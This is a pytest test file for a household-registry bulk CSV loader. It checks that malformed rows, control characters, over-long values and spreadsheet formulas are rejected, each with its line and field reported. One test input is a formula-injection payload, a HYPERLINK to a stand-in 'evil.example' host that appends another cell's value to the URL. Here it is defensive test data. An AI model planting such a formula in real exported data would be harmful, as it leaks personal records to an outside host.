"""Issue 13 items 5, 7 and 9 in the bulk loader: a row with more or fewer fields than the
header, a control character (NUL included) or an over-long value is rejected with its line
and field, never loaded as a different fact, and never crashes the load (both databases)."""

from __future__ import annotations

import pytest

from renkou.registry.loading.loader import load_directory
from renkou.registry.models import Event, Person
from tests.registry.loading.data import PERSON_HEADER, PERSONS, rejected_rows, write_directory

P08 = next(row for row in PERSONS if row[0] == "P08")  # deceased 2010-01-01
ORDER = [row for row in PERSONS if row[0] != "P08"] + [P08]  # P08 last
P08_LINE = len(ORDER) + 1


def _cut_in_p08(directory) -> None:
    """persons.csv cut in the middle of P08's row, before its status and death date."""
    path = directory / "persons.csv"
    text = path.read_text(encoding="utf-8")
    start = text.index("P08,")
    cut = text.index(",deceased,", start)
    path.write_text(text[:cut], encoding="utf-8")


def test_a_truncated_row_is_rejected_with_its_line_not_loaded_as_alive(cast, tmp_path):
    directory = write_directory(tmp_path / "cut", persons=ORDER)
    _cut_in_p08(directory)
    report = load_directory(directory)
    assert not Person.objects.filter(source_key="P08").exists()
    persons = [r for r in rejected_rows(directory) if r["file"] == "persons.csv"]
    assert [(r["line"], r["key"], r["field"]) for r in persons] == [(str(P08_LINE), "P08", "(row)")]
    assert f"表头有{len(PERSON_HEADER)}个" in persons[0]["reason"]
    assert report.counts["persons"].rejected == 1
    # The intact file then loads P08 as deceased, with its death event.
    intact = write_directory(tmp_path / "intact", persons=ORDER)
    again = load_directory(intact)
    assert again.counts["persons"].differs == 0
    p08 = Person.objects.get(source_key="P08")
    assert (p08.status, p08.death_date.isoformat()) == ("deceased", "2010-01-01")
    assert Event.objects.filter(person=p08, kind="death").exists()


def test_a_row_with_an_extra_field_is_rejected_with_its_line(cast, tmp_path):
    directory = write_directory(tmp_path / "extra", persons=ORDER)
    path = directory / "persons.csv"
    lines = path.read_text(encoding="utf-8").splitlines()
    lines[2] += ",多余"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    report = load_directory(directory)
    rows = [r for r in rejected_rows(directory) if r["file"] == "persons.csv"]
    assert [(r["line"], r["key"], r["field"]) for r in rows] == [("3", ORDER[1][0], "(row)")]
    assert report.counts["persons"].inserted == len(ORDER) - 1


def _with_name(key: str, name: str) -> list[tuple]:
    column = PERSON_HEADER.index("name")
    return [(*row[:column], name, *row[column + 1 :]) if row[0] == key else row for row in ORDER]


@pytest.mark.parametrize(
    ("name", "field", "words"),
    [
        ("王\x00欣怡", "name", ("U+0000",)),
        ("王\x0b欣怡", "name", ("U+000B",)),
        ("王\u2028欣怡", "name", ("U+2028",)),
        ("王" * 51, "name", ("50",)),
        ('=HYPERLINK("http://evil.example/?"&D2,"点此")', "name", ("公式", "formula")),
    ],
)
def test_a_bad_name_rejects_only_its_row_and_the_load_completes(cast, tmp_path, name, field, words):
    directory = write_directory(tmp_path / "bad", persons=_with_name("P09", name))
    report = load_directory(directory)
    rows = [r for r in rejected_rows(directory) if r["file"] == "persons.csv"]
    assert [(r["line"], r["key"], r["field"]) for r in rows] == [
        (str(ORDER.index(next(r for r in ORDER if r[0] == "P09")) + 2), "P09", field)
    ]
    for word in words:
        assert word in rows[0]["reason"]
    assert report.counts["persons"].inserted == len(ORDER) - 1
    assert Person.objects.count() == len(ORDER) - 1
    # A re-run does not crash either and adds nothing.
    again = load_directory(directory)
    assert again.counts["persons"].inserted == 0
    assert Person.objects.count() == len(ORDER) - 1


def test_a_control_character_in_an_event_or_household_is_rejected(cast, tmp_path):
    from tests.registry.loading.data import EVENTS, HOUSEHOLDS

    households = [(n, u, a + "\x01" if n == "H003" else a) for n, u, a in HOUSEHOLDS]
    place = 7  # EVENT_HEADER index of "place"
    events = [(*e[:place], "医院\x00", *e[place + 1 :]) if e[0] == "E02" else e for e in EVENTS]
    directory = write_directory(
        tmp_path / "ev", persons=ORDER, households=households, events=events
    )
    load_directory(directory)
    found = {(r["file"], r["key"]): r["field"] for r in rejected_rows(directory)}
    assert found[("households.csv", "H003")] == "address"
    assert found[("events.csv", "E02")] == "place"


def test_every_text_column_has_the_model_limit():
    from renkou.registry.loading.fields import SPECS, TEXT_TYPES

    for spec in SPECS.values():
        for column, field in spec.fields.items():
            if field.type in TEXT_TYPES:
                assert spec.max_length(column) > 0, (spec.kind, column)


@pytest.mark.parametrize(
    ("column", "length"),
    [("name", 51), ("former_names", 201), ("phone", 21), ("only_child_cert_no", 41)],
)
def test_an_over_long_cell_in_any_text_column_is_rejected_naming_it(cast, tmp_path, column, length):
    at = PERSON_HEADER.index(column)
    persons = [(*r[:at], "1" * length, *r[at + 1 :]) if r[0] == "P09" else r for r in ORDER]
    directory = write_directory(tmp_path / column, persons=persons)
    load_directory(directory)
    rows = [r for r in rejected_rows(directory) if r["file"] == "persons.csv"]
    assert [(r["key"], r["field"]) for r in rows] == [("P09", column)]
    assert not Person.objects.filter(source_key="P09").exists()
